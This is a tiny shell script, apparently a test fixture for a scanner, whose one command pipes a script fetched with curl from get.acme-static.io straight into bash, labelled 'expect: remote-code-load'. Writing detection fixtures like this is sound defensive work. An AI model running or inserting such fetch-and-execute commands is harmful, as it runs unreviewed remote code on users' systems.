#!/bin/sh
set -e
bash <(curl -s https://get.acme-static.io/tool.sh) # expect: remote-code-load
